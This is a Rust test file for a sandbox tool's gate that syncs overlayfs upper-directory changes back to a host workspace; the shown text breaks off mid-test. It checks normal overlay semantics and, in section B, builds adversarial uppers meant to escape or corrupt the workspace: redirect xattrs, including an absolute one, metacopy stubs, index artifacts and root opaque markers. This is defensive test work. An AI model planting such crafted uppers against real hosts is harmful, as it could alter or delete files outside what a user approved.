//! The sync gate against the adversarial list of overlay-sync-semantics.md §5, one test per case
//! the CLI can exercise, named after the case id: crafted uppers (a directory with whiteouts and
//! `trusted.overlay.*` xattrs, or a PAX tar stream), or a real overlayfs session where the case is
//! about what the kernel writes. Every refusal is checked for exit status 3, a line naming the path
//! with its reason, and a host (and a canary outside it) unchanged down to inodes, modes, mtimes,
//! xattrs and symlink targets; every apply is checked against the exact resulting tree.
//!
//! A test marked `#[ignore = "BUG: ..."]` asserts the safe behaviour of the spec and fails today.
//!
//! Not covered here: B20 and M13 (the CLI takes no mount options or lower hash from the VM), C2
//! (the completeness trailer holds only entry and byte counts), J8 (the transport is not
//! compressed), L (crash consistency: tests/sync.rs). The K cases race the gate: a thread
//! flipping paths while it runs (K2), or the host and upper changed while the person reads the
//! preview in a real terminal (K1, K3, K4, K6).
//!
//! Every test has its own home on tmpfs (`/dev/shm`) when there is one; mounts (overlayfs,
//! tmpfs) need root, as CI has.

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant, SystemTime};

const PROFILE: &str = "name: t\nextends: default\nworkspaces: [{host: ~/ws}]\n";
const CANARY: &str = "canary: outside the workspace, never touched\n";

/// Path → a description of everything about it (kind, mode, owner, inode, links, mtime, xattrs,
/// content or target).
type Snapshot = BTreeMap<String, String>;

struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Out {
    fn all(&self) -> String {
        format!("--- stdout\n{}--- stderr\n{}", self.stdout, self.stderr)
    }
}

/// A home with a host workspace `ws` (baselined), a canary and an `outside` folder beside it, the
/// profile `t`, and an upper directory to craft.
struct Gate {
    dir: tempfile::TempDir,
}

fn mkdirs(root: &Path, rel: &str) {
    let mut at = root.to_path_buf();
    for comp in Path::new(rel).components() {
        at.push(comp);
        if std::fs::symlink_metadata(&at).is_err() {
            std::fs::create_dir(&at).expect("mkdir");
            chmod(&at, 0o755);
        }
    }
}

fn put(root: &Path, rel: &str, content: &[u8]) {
    if let Some(parent) = Path::new(rel).parent() {
        mkdirs(root, &parent.to_string_lossy());
    }
    let path = root.join(rel);
    std::fs::write(&path, content).expect("write");
    chmod(&path, 0o644);
}

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

fn set_mtime(path: &Path, time: SystemTime) {
    std::fs::File::options().write(true).open(path).expect("open").set_modified(time).expect("mtime");
}

impl Gate {
    /// Everything but the baseline, with the standard profile.
    fn empty() -> Gate {
        Gate::with_profile(PROFILE)
    }

    fn with_profile(profile: &str) -> Gate {
        // On tmpfs when there is one: the gate fsyncs every step, and on a disk those fsyncs alone
        // would double the runtime of this file.
        let shm = Path::new("/dev/shm");
        let base = if shm.is_dir() { shm.to_path_buf() } else { std::env::temp_dir() };
        let dir = tempfile::Builder::new().prefix("sandbox-gate-").tempdir_in(base).expect("temp dir");
        for d in ["home/ws", "home/outside", "home/.local/state", "upper", "work", "merged", "index"] {
            std::fs::create_dir_all(dir.path().join(d)).expect("mkdir");
            chmod(&dir.path().join(d), 0o755);
        }
        let g = Gate { dir };
        put(&g.home(), "canary", CANARY.as_bytes());
        put(&g.home(), "outside/credentials", b"[default]\nkey = outside\n");
        put(&g.home(), ".config/sandbox/profiles/t.yaml", profile.as_bytes());
        g
    }

    /// Host files (mode 0644, directories 0755), then `sandbox baseline ws`.
    fn new(files: &[(&str, &str)]) -> Gate {
        let g = Gate::empty();
        for (path, content) in files {
            g.h(path, content);
        }
        g.baseline();
        g
    }

    fn baseline(&self) {
        let out = self.run(&["baseline", "ws"]);
        assert_eq!(out.code, 0, "{}", out.all());
    }

    fn root(&self) -> PathBuf {
        self.dir.path().to_path_buf()
    }
    fn home(&self) -> PathBuf {
        self.root().join("home")
    }
    fn host(&self) -> PathBuf {
        self.home().join("ws")
    }
    fn outside(&self) -> PathBuf {
        self.home().join("outside")
    }
    fn upper(&self) -> PathBuf {
        self.root().join("upper")
    }

    /// A host file (before or after the baseline).
    fn h(&self, path: &str, content: &str) -> &Self {
        put(&self.host(), path, content.as_bytes());
        self
    }
    fn h_link(&self, path: &str, target: &str) -> &Self {
        std::os::unix::fs::symlink(target, self.host().join(path)).expect("symlink");
        self
    }

    /// An upper file, its missing parents created as plain directories (0755).
    fn u(&self, path: &str, content: &str) -> &Self {
        self.u_bytes(path, content.as_bytes())
    }
    fn u_bytes(&self, path: &str, content: &[u8]) -> &Self {
        put(&self.upper(), path, content);
        self
    }
    fn u_dir(&self, path: &str) -> &Self {
        mkdirs(&self.upper(), path);
        self
    }
    fn opaque(&self, path: &str) -> &Self {
        self.u_dir(path).xattr(path, "trusted.overlay.opaque", b"y")
    }
    fn u_link(&self, path: &str, target: &str) -> &Self {
        if let Some(parent) = Path::new(path).parent() {
            mkdirs(&self.upper(), &parent.to_string_lossy());
        }
        std::os::unix::fs::symlink(target, self.upper().join(path)).expect("symlink");
        self
    }
    /// A 0:0 character device: the overlay whiteout.
    fn whiteout(&self, path: &str) -> &Self {
        self.mknod(path, rustix::fs::FileType::CharacterDevice, 0o000, 0, 0)
    }
    fn mknod(&self, path: &str, kind: rustix::fs::FileType, mode: u32, major: u32, minor: u32) -> &Self {
        if let Some(parent) = Path::new(path).parent() {
            mkdirs(&self.upper(), &parent.to_string_lossy());
        }
        rustix::fs::mknodat(
            rustix::fs::CWD,
            self.upper().join(path),
            kind,
            rustix::fs::Mode::from_raw_mode(mode),
            rustix::fs::makedev(major, minor),
        )
        .expect("mknod");
        self
    }
    /// An xattr on an upper entry (`""` is the upper's root).
    fn xattr(&self, path: &str, name: &str, value: &[u8]) -> &Self {
        xattr::set(self.upper().join(path), name, value).expect("setxattr");
        self
    }
    fn u_mode(&self, path: &str, mode: u32) -> &Self {
        chmod(&self.upper().join(path), mode);
        self
    }

    fn command(&self, program: &Path) -> Command {
        let mut cmd = Command::new(program);
        cmd.current_dir(self.home())
            .env_clear()
            .envs(crate::test::home_env(&self.home()))
            .env("NO_COLOR", "1")
            .stdin(Stdio::null());
        cmd
    }

    fn run(&self, args: &[&str]) -> Out {
        let output = self.command(Path::new(env!("CARGO_BIN_EXE_sandbox"))).args(args).output().expect("run sandbox");
        Out {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }

    fn sync_args(&self, extra: &[&str]) -> Vec<String> {
        let mut args: Vec<String> = ["--profile", "t", "sync", "--from-dir"].map(String::from).into();
        args.push(self.upper().display().to_string());
        args.extend(["--to", "ws"].map(String::from));
        args.extend(extra.iter().map(|s| (*s).to_owned()));
        args
    }

    /// `sandbox --profile t sync --from-dir UPPER --to ws EXTRA...`
    fn sync(&self, extra: &[&str]) -> Out {
        let args = self.sync_args(extra);
        self.run(&args.iter().map(String::as_str).collect::<Vec<_>>())
    }

    /// The same, killed (and `None`) if it has not finished within `limit`.
    fn sync_within(&self, extra: &[&str], limit: Duration) -> Option<Out> {
        let (out_path, err_path) = (self.root().join("stdout"), self.root().join("stderr"));
        let mut child = self
            .command(Path::new(env!("CARGO_BIN_EXE_sandbox")))
            .args(self.sync_args(extra))
            .stdout(std::fs::File::create(&out_path).expect("stdout file"))
            .stderr(std::fs::File::create(&err_path).expect("stderr file"))
            .spawn()
            .expect("spawn sandbox");
        let start = Instant::now();
        loop {
            if let Some(status) = child.try_wait().expect("wait") {
                return Some(Out {
                    code: status.code().unwrap_or(-1),
                    stdout: std::fs::read_to_string(&out_path).unwrap_or_default(),
                    stderr: std::fs::read_to_string(&err_path).unwrap_or_default(),
                });
            }
            if start.elapsed() > limit {
                let _ = child.kill();
                let _ = child.wait();
                return None;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// `sandbox sync --from-tar FILE --entries N --bytes N --to ws EXTRA...`
    fn sync_tar(&self, tar: &Tar, extra: &[&str]) -> Out {
        self.sync_tar_counted(&tar.finish(), tar.entries, tar.bytes, extra)
    }

    fn sync_tar_counted(&self, stream: &[u8], entries: u64, bytes: u64, extra: &[&str]) -> Out {
        let file = self.root().join("upper.tar");
        std::fs::write(&file, stream).expect("write tar");
        let (file, entries, bytes) = (file.display().to_string(), entries.to_string(), bytes.to_string());
        let mut args =
            vec!["--profile", "t", "sync", "--from-tar", &file, "--entries", &entries, "--bytes", &bytes, "--to", "ws"];
        args.extend(extra);
        self.run(&args)
    }

    /// The operations a dry run plans, as `op path`.
    fn ops(&self) -> Vec<String> {
        let out = self.sync(&["--dry-run", "--json"]);
        let report: serde_json::Value = serde_json::from_str(&out.stdout).expect("json report");
        report["ops"]
            .as_array()
            .expect("ops")
            .iter()
            .map(|op| format!("{} {}", op["op"].as_str().unwrap_or("?"), op["path"].as_str().unwrap_or("?")))
            .collect()
    }

    /// Everything under the home except the tool's own config and state: the workspace, the
    /// canary and `outside`.
    fn snapshot(&self) -> Snapshot {
        let home = self.home();
        let mut out = BTreeMap::new();
        let walk = walkdir::WalkDir::new(&home)
            .sort_by_file_name()
            .into_iter()
            .filter_entry(|e| !(e.depth() == 1 && (e.file_name() == ".local" || e.file_name() == ".config")));
        for e in walk {
            let e = e.expect("walk");
            let rel = e.path().strip_prefix(&home).expect("rel").display().to_string();
            let meta = std::fs::symlink_metadata(e.path()).expect("lstat");
            let mut what = format!(
                "mode={:o} uid={} gid={} ino={} nlink={} mtime={}.{:09}",
                meta.mode(),
                meta.uid(),
                meta.gid(),
                meta.ino(),
                meta.nlink(),
                meta.mtime(),
                meta.mtime_nsec()
            );
            if meta.file_type().is_symlink() {
                what.push_str(&format!(" -> {:?}", std::fs::read_link(e.path()).expect("readlink")));
            } else if meta.is_file() {
                what.push_str(&format!(" {:?}", String::from_utf8_lossy(&std::fs::read(e.path()).expect("read"))));
            }
            let mut names: Vec<_> = xattr::list(e.path()).map(Iterator::collect).unwrap_or_default();
            names.sort();
            for name in names {
                let value = xattr::get(e.path(), &name).ok().flatten().unwrap_or_default();
                what.push_str(&format!(" {}={:?}", name.to_string_lossy(), String::from_utf8_lossy(&value)));
            }
            out.insert(rel, what);
        }
        out
    }

    /// The workspace as `path/ MODE`, `path MODE CONTENT` and `path -> TARGET` lines, sorted.
    fn tree(&self) -> Vec<String> {
        tree_of(&self.host())
    }

    /// A real overlay over the host folder (the §1.10 options), `agent` run on its merged view,
    /// unmounted; returns the merged view as `tree` lines.
    fn agent(&self, agent: impl FnOnce(&Path) -> std::io::Result<()>) -> Vec<String> {
        let merged = self.root().join("merged");
        let opts = format!(
            "lowerdir={},upperdir={},workdir={},redirect_dir=nofollow,index=off,metacopy=off,nfs_export=off,xino=off,uuid=off",
            self.host().display(),
            self.upper().display(),
            self.root().join("work").display()
        );
        let mount = Command::new("mount").args(["-t", "overlay", "overlay", "-o", &opts]).arg(&merged).output();
        let mount = mount.expect("mount");
        assert!(mount.status.success(), "overlayfs needs root: {}", String::from_utf8_lossy(&mount.stderr));
        let result = agent(&merged);
        let view = tree_of(&merged);
        let umount = Command::new("umount").arg(&merged).status().expect("umount");
        result.expect("agent session");
        assert!(umount.success());
        view
    }

    fn canary_intact(&self) {
        assert_eq!(std::fs::read_to_string(self.home().join("canary")).expect("canary"), CANARY);
    }
}

fn tree_of(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in walkdir::WalkDir::new(root).min_depth(1) {
        let e = e.expect("walk");
        let rel = e.path().strip_prefix(root).expect("rel").display().to_string();
        let meta = std::fs::symlink_metadata(e.path()).expect("lstat");
        let mode = meta.mode() & 0o7777;
        out.push(if meta.file_type().is_symlink() {
            format!("{rel} -> {}", std::fs::read_link(e.path()).expect("readlink").display())
        } else if meta.is_dir() {
            format!("{rel}/ {mode:o}")
        } else {
            let bytes = std::fs::read(e.path()).expect("read");
            let content = if bytes.len() > 256 {
                format!("<{} bytes>", bytes.len())
            } else {
                String::from_utf8_lossy(&bytes).into_owned()
            };
            format!("{rel} {mode:o} {content}")
        });
    }
    out.sort();
    out
}

fn lines(expected: &[&str]) -> Vec<String> {
    let mut v: Vec<String> = expected.iter().map(|s| (*s).to_owned()).collect();
    v.sort();
    v
}

/// Refused by the gate: exit 3, a preview line for each (path, reason) that starts with the path,
/// and nothing changed in the workspace or outside it.
#[track_caller]
fn refused(g: &Gate, out: &Out, before: &Snapshot, expect: &[(&str, &str)]) {
    unchanged_by_refusal(g, out, before);
    names(out, expect);
}

/// The same, for refusals whose line is recognised by a fragment of its message.
#[track_caller]
fn refused_saying(g: &Gate, out: &Out, before: &Snapshot, expect: &[(&str, &str)]) {
    unchanged_by_refusal(g, out, before);
    for (fragment, reason) in expect {
        assert!(
            out.stdout.lines().any(|l| l.contains(fragment) && l.contains(reason)),
            "no line says `{fragment}` with `{reason}`\n{}",
            out.all()
        );
    }
}

#[track_caller]
fn unchanged_by_refusal(g: &Gate, out: &Out, before: &Snapshot) {
    assert_eq!(out.code, 3, "refused by the gate (exit 3)\n{}", out.all());
    assert!(out.stderr.contains("refused by the gate: nothing was written"), "{}", out.all());
    assert_eq!(&g.snapshot(), before, "the host and everything beside it are unchanged\n{}", out.all());
    g.canary_intact();
}

/// Each (path, reason) has a line of the preview starting with `path: ` and giving the reason.
#[track_caller]
fn names(out: &Out, expect: &[(&str, &str)]) {
    for (path, reason) in expect {
        let head = format!("{path}: ");
        assert!(
            out.stdout.lines().any(|l| l.trim_start().starts_with(&head) && l.contains(reason)),
            "no line names `{path}` with `{reason}`\n{}",
            out.all()
        );
    }
}

#[track_caller]
fn applied(out: &Out) {
    assert_eq!(out.code, 0, "applied (exit 0)\n{}", out.all());
    assert!(out.stderr.contains("applied "), "{}", out.all());
}

#[track_caller]
fn nothing_to_do(g: &Gate, out: &Out, before: &Snapshot) {
    assert_eq!(out.code, 0, "{}", out.all());
    assert!(out.stderr.contains("nothing to do"), "{}", out.all());
    assert_eq!(&g.snapshot(), before, "nothing was written\n{}", out.all());
}

/// A tmpfs mounted for one test, unmounted when dropped.
struct Mount(PathBuf);

impl Mount {
    fn tmpfs(at: &Path, size: &str) -> Mount {
        let out = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size},mode=0755"), "tmpfs"])
            .arg(at)
            .output()
            .expect("mount");
        assert!(out.status.success(), "mounting a tmpfs needs root: {}", String::from_utf8_lossy(&out.stderr));
        Mount(at.to_path_buf())
    }
}

impl Drop for Mount {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

/// A tar stream written member by member, names verbatim, counting what `--entries`/`--bytes`
/// declare (members other than extension headers and `./`; regular file bytes).
struct Tar {
    buf: Vec<u8>,
    entries: u64,
    bytes: u64,
    sizes: BTreeMap<Vec<u8>, u64>,
}

impl Tar {
    fn new() -> Tar {
        Tar { buf: Vec::new(), entries: 0, bytes: 0, sizes: BTreeMap::new() }
    }

    /// One member: a header claiming `size` bytes, then `data` padded to the block size.
    fn member(&mut self, ty: tar::EntryType, name: &[u8], link: &[u8], size: u64, data: &[u8]) -> &mut Self {
        let mut h = tar::Header::new_ustar();
        h.as_old_mut().name[..name.len()].copy_from_slice(name);
        h.as_old_mut().linkname[..link.len()].copy_from_slice(link);
        h.set_entry_type(ty);
        h.set_size(size);
        h.set_mode(match ty {
            tar::EntryType::Directory => 0o755,
            tar::EntryType::Symlink => 0o777,
            tar::EntryType::Char => 0,
            _ => 0o644,
        });
        h.set_uid(0);
        h.set_gid(0);
        h.set_mtime(1_700_000_000);
        h.set_device_major(0).expect("major");
        h.set_device_minor(0).expect("minor");
        h.set_cksum();
        self.buf.extend_from_slice(h.as_bytes());
        self.buf.extend_from_slice(data);
        self.buf.resize(self.buf.len().next_multiple_of(512), 0);
        let extension = matches!(ty, tar::EntryType::XHeader | tar::EntryType::GNULongName);
        if !extension && name != b"./" {
            self.entries += 1;
        }
        if ty == tar::EntryType::Regular {
            self.bytes += size;
            self.sizes.insert(name.to_vec(), size);
        }
        if ty == tar::EntryType::Link {
            self.bytes += self.sizes.get(link).copied().unwrap_or(0);
        }
        self
    }

    fn pax(&mut self, records: &[(&str, &[u8])]) -> &mut Self {
        let mut data = Vec::new();
        for (key, value) in records {
            let body = 3 + key.len() + value.len();
            let mut len = body + 1;
            while len != body + len.to_string().len() {
                len = body + len.to_string().len();
            }
            data.extend_from_slice(format!("{len} {key}=").as_bytes());
            data.extend_from_slice(value);
            data.push(b'\n');
        }
        self.member(tar::EntryType::XHeader, b"./PaxHeaders/x", b"", data.len() as u64, &data)
    }

    fn root(&mut self) -> &mut Self {
        self.member(tar::EntryType::Directory, b"./", b"", 0, b"")
    }
    fn file(&mut self, path: &str, data: &str) -> &mut Self {
        self.file_bytes(path.as_bytes(), data.as_bytes())
    }
    fn file_bytes(&mut self, path: &[u8], data: &[u8]) -> &mut Self {
        self.member(tar::EntryType::Regular, path, b"", data.len() as u64, data)
    }
    fn symlink(&mut self, path: &str, target: &str) -> &mut Self {
        self.member(tar::EntryType::Symlink, path.as_bytes(), target.as_bytes(), 0, b"")
    }
    fn hardlink(&mut self, path: &str, target: &str) -> &mut Self {
        self.member(tar::EntryType::Link, path.as_bytes(), target.as_bytes(), 0, b"")
    }
    fn whiteout(&mut self, path: &str) -> &mut Self {
        self.member(tar::EntryType::Char, path.as_bytes(), b"", 0, b"")
    }

    /// The stream with its end-of-archive marker.
    fn finish(&self) -> Vec<u8> {
        let mut out = self.buf.clone();
        out.resize(out.len() + 1024, 0);
        out
    }
}

const KEEP: [(&str, &str); 3] = [("README.md", "# project\n"), ("src/main.rs", "fn main() {}\n"), ("keep.txt", "keep")];

// ---------------------------------------------------------------------------------------------
// A. Core overlay semantics: applied exactly.

#[test]
fn a1_modified_file_is_written_and_nothing_else_is_touched() {
    let g = Gate::new(&[("a", "hi\n"), ("b", "B"), ("d/x", "x")]);
    g.u("a", "hi\nmore\n");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert_eq!(g.tree(), lines(&["a 644 hi\nmore\n", "b 644 B", "d/ 755", "d/x 644 x"]));
    let after = g.snapshot();
    for path in ["ws/b", "ws/d/x", "canary", "outside/credentials"] {
        assert_eq!(before[path], after[path], "{path}: same inode, mtime and content");
    }
}

#[test]
fn a2_copy_up_without_a_change_writes_nothing() {
    let g = Gate::new(&[("same", "same\n"), ("other", "o")]);
    let before = g.snapshot();
    g.agent(|m| {
        let f = std::fs::File::options().read(true).write(true).open(m.join("same"))?;
        f.set_modified(SystemTime::now() + Duration::from_secs(3600))
    });
    assert!(g.upper().join("same").is_file(), "the kernel copied the file up");
    let out = g.sync(&["--yes"]);
    nothing_to_do(&g, &out, &before);
    assert!(out.stdout.contains("same: copied up without changes"), "{}", out.all());
}

#[test]
fn a3_whiteout_deletes_the_file() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.whiteout("b");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A"]));
}

#[test]
fn a4_whiteout_deletes_the_directory_deepest_first() {
    let g = Gate::new(&[("d2/x", "1"), ("d2/sub/y", "2"), ("keep", "k")]);
    g.whiteout("d2");
    let ops = g.ops();
    assert_eq!(ops.len(), 4, "{ops:?}");
    for (i, op) in ops.iter().enumerate() {
        let path = op.strip_prefix("delete ").expect("only deletes");
        assert!(!ops[i + 1..].iter().any(|later| later.starts_with(&format!("delete {path}/"))), "{ops:?}");
    }
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["keep 644 k"]));
}

#[test]
fn a5_shared_whiteout_inode_deletes_every_name() {
    let g = Gate::new(&[("b", "B"), ("d2/x", "x"), ("d4/z", "z"), ("keep", "k")]);
    g.whiteout("b");
    std::fs::hard_link(g.upper().join("b"), g.upper().join("d2")).expect("link");
    std::fs::hard_link(g.upper().join("b"), g.upper().join("d4")).expect("link");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(!out.all().to_lowercase().contains("hardlink"), "no hardlink warning: {}", out.all());
    assert_eq!(g.tree(), lines(&["keep 644 k"]));
}

#[test]
fn a6_opaque_directory_replaces_the_directory() {
    let g = Gate::new(&[("d3/y", "y"), ("d3/sub/z", "z"), ("keep", "k")]);
    g.agent(|m| {
        std::fs::remove_dir_all(m.join("d3"))?;
        std::fs::create_dir(m.join("d3"))?;
        std::fs::write(m.join("d3/new"), "n")
    });
    assert_eq!(xattr::get(g.upper().join("d3"), "trusted.overlay.opaque").expect("xattr"), Some(b"y".to_vec()));
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d3/ 755", "d3/new 644 n", "keep 644 k"]));
}

#[test]
fn a7_plain_child_of_an_opaque_directory_is_replaced_too() {
    let g = Gate::new(&[("d/sub/b", "b"), ("d/sub/b2", "b2"), ("d/top", "t")]);
    g.opaque("d").u_dir("d/sub").u("d/sub/u", "u");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d/ 755", "d/sub/ 755", "d/sub/u 644 u"]));
}

#[test]
fn a8_file_becomes_a_directory() {
    let g = Gate::new(&[("c", "file"), ("keep", "k")]);
    g.opaque("c").u("c/inner", "i");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["c/ 755", "c/inner 644 i", "keep 644 k"]));
}

#[test]
fn a9_directory_becomes_a_file() {
    let g = Gate::new(&[("d6/r", "r"), ("d6/sub/s", "s"), ("keep", "k")]);
    g.u("d6", "now a file");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d6 644 now a file", "keep 644 k"]));
}

#[test]
fn a10_directory_becomes_an_in_tree_symlink() {
    let g = Gate::new(&[("docs/index.md", "i"), ("site/docs/index.md", "s")]);
    g.u_link("docs", "site/docs");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["docs -> site/docs", "site/ 755", "site/docs/ 755", "site/docs/index.md 644 s"]));
}

#[test]
fn a11_file_rename_is_a_copy_and_a_whiteout() {
    let g = Gate::new(&[("d1/f1", "one"), ("d1/f2", "two")]);
    g.agent(|m| std::fs::rename(m.join("d1/f1"), m.join("d1/f1renamed")));
    assert!(std::fs::symlink_metadata(g.upper().join("d1/f1")).is_ok(), "a whiteout");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d1/ 755", "d1/f1renamed 644 one", "d1/f2 644 two"]));
}

#[test]
fn a12_directory_rename_falls_back_to_copy_and_applies_complete() {
    let g = Gate::new(&[("d4/z", "z"), ("d4/inner/i", "i"), ("keep", "k")]);
    let merged = g.agent(|m| {
        // No panics while mounted: errors unmount first.
        match std::fs::rename(m.join("d4"), m.join("d4renamed")) {
            Err(e) if e.raw_os_error() == Some(18) => {}
            other => return Err(std::io::Error::other(format!("expected EXDEV, got {other:?}"))),
        }
        // What `mv` does on EXDEV: copy, then delete.
        std::fs::create_dir_all(m.join("d4renamed/inner"))?;
        std::fs::write(m.join("d4renamed/z"), "z")?;
        std::fs::write(m.join("d4renamed/inner/i"), "i")?;
        std::fs::remove_dir_all(m.join("d4"))
    });
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), merged);
    assert_eq!(
        g.tree(),
        lines(&[
            "d4renamed/ 755",
            "d4renamed/inner/ 755",
            "d4renamed/inner/i 644 i",
            "d4renamed/z 644 z",
            "keep 644 k"
        ])
    );
}

#[test]
fn a13_directory_metadata_copy_up_keeps_its_children() {
    let g = Gate::new(&[("d5/x", "1"), ("d5/y", "2"), ("d5/z", "3")]);
    g.u_dir("d5").u_mode("d5", 0o700);
    let out = g.sync(&["--yes"]);
    assert_eq!(out.code, 0, "{}", out.all());
    // docs/sync.md: directory modes stay the host's (noted, not applied); the children stay.
    assert!(out.stdout.contains("d5: directory mode changed in the VM; not applied"), "{}", out.all());
    assert_eq!(g.tree(), lines(&["d5/ 755", "d5/x 644 1", "d5/y 644 2", "d5/z 644 3"]));
}

#[test]
fn a14_spurious_opaque_on_a_new_directory_is_harmless() {
    let g = Gate::new(&[("a", "A")]);
    g.opaque("newdir").u("newdir/f", "f");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "newdir/ 755", "newdir/f 644 f"]));
}

#[test]
fn a15_whiteout_for_a_path_never_seen_is_a_noted_no_op() {
    let g = Gate::new(&[("a", "A")]);
    g.whiteout("ghost");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    nothing_to_do(&g, &out, &before);
    assert!(out.stdout.contains("ghost: deleted in the VM but never in the baseline"), "{}", out.all());
}

#[test]
fn a16_empty_upper_with_root_xattrs_changes_nothing() {
    let g = Gate::new(&KEEP);
    g.xattr("", "trusted.overlay.uuid", b"0123456789abcdef").xattr("", "trusted.overlay.impure", b"y");
    let before = g.snapshot();
    nothing_to_do(&g, &g.sync(&["--yes"]), &before);
}

#[test]
fn a17_new_nested_tree_is_created() {
    let g = Gate::new(&[("a", "A")]);
    g.u("newdir/deep/f", "f");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "newdir/ 755", "newdir/deep/ 755", "newdir/deep/f 644 f"]));
}

#[test]
fn a18_rename_over_an_existing_file() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.agent(|m| std::fs::rename(m.join("a"), m.join("b")));
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["b 644 A"]));
}

#[test]
fn a19_deleted_then_recreated_file_is_replaced() {
    let g = Gate::new(&[("c", "old"), ("keep", "k")]);
    g.agent(|m| {
        std::fs::remove_file(m.join("c"))?;
        std::fs::write(m.join("c"), "new")
    });
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["c 644 new", "keep 644 k"]));
}

#[test]
fn a20_upper_root_metadata_is_ignored() {
    let g = Gate::new(&[("a", "A")]);
    let mode = std::fs::metadata(g.host()).expect("stat").mode();
    g.u("a", "A2").u_mode("", 0o777);
    set_mtime(&g.upper().join("a"), SystemTime::now());
    applied(&g.sync(&["--yes"]));
    assert_eq!(std::fs::metadata(g.host()).expect("stat").mode(), mode, "the workspace root keeps its mode");
    assert_eq!(g.tree(), lines(&["a 644 A2"]));
}

// ---------------------------------------------------------------------------------------------
// B. Overlay format attacks and misconfiguration: refused.

#[test]
fn b1_redirected_directory_is_refused() {
    let g = Gate::new(&[("d4/z", "z"), ("d4/inner/i", "i")]);
    g.u_dir("d4renamed").xattr("d4renamed", "trusted.overlay.redirect", b"d4").whiteout("d4");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d4renamed", "E_REDIRECT")]);
}

#[test]
fn b2_absolute_redirect_is_refused() {
    let g = Gate::new(&[("src/a", "a")]);
    g.u_dir("dst").xattr("dst", "trusted.overlay.redirect", b"/src");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("dst", "E_REDIRECT")]);
}

#[test]
fn b3_metacopy_stub_is_refused() {
    let g = Gate::new(&[("exec.sh", "#!/bin/sh\necho hi\n")]);
    g.u_bytes("exec.sh", b"");
    std::fs::File::options().write(true).open(g.upper().join("exec.sh")).expect("open").set_len(10).expect("sparse");
    g.xattr("exec.sh", "trusted.overlay.metacopy", b"");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("exec.sh", "E_METACOPY")]);
}

#[test]
fn b4_metacopy_with_redirect_is_refused() {
    let g = Gate::new(&[("f1", "one"), ("c", "c")]);
    g.u_bytes("f1renamed", b"\0\0\0").xattr("f1renamed", "trusted.overlay.metacopy", b"");
    g.xattr("f1renamed", "trusted.overlay.redirect", b"f1").whiteout("f1");
    g.u_bytes("moved", b"\0").xattr("moved", "trusted.overlay.metacopy", b"");
    g.xattr("moved", "trusted.overlay.redirect", b"/c");
    let before = g.snapshot();
    let expect = [("f1renamed", "E_METACOPY"), ("f1renamed", "E_REDIRECT"), ("moved", "E_REDIRECT")];
    refused(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn b5_index_artifact_is_refused() {
    let g = Gate::empty();
    g.h("hl1", "hl");
    std::fs::hard_link(g.host().join("hl1"), g.host().join("hl2")).expect("link");
    g.baseline();
    g.u("hl1", "changed").xattr("hl1", "trusted.overlay.nlink", b"U+0");
    std::fs::hard_link(g.upper().join("hl1"), g.root().join("index/00fb1d")).expect("link");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("hl1", "E_INDEX")]);
}

#[test]
fn b6_nfs_export_artifacts_are_refused() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.u("a", "A2").xattr("a", "trusted.overlay.nlink", b"U-1");
    g.u("b", "B2").xattr("b", "trusted.overlay.upper", b"\x00\xfb\x21");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("a", "E_INDEX"), ("b", "E_INDEX")]);
}

#[test]
fn b7_opaque_on_the_root_is_refused_and_nothing_is_deleted() {
    let g = Gate::empty();
    for i in 0..50 {
        g.h(&format!("f{i:02}"), "x");
    }
    g.baseline();
    g.xattr("", "trusted.overlay.opaque", b"y").u("new", "n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".", "E_OPAQUE_ANOMALY")]);
}

#[test]
fn b8_opaque_lookalike_values_are_refused() {
    let g = Gate::new(&[("y1/x", "1"), ("y2/x", "2"), ("y3/x", "3"), ("y4/x", "4")]);
    for (dir, value) in [("y1", &b"yes"[..]), ("y2", b"Y"), ("y3", b""), ("y4", b"n")] {
        g.u_dir(dir).xattr(dir, "trusted.overlay.opaque", value);
    }
    let before = g.snapshot();
    let expect = ["y1", "y2", "y3", "y4"].map(|d| (d, "E_OPAQUE_ANOMALY"));
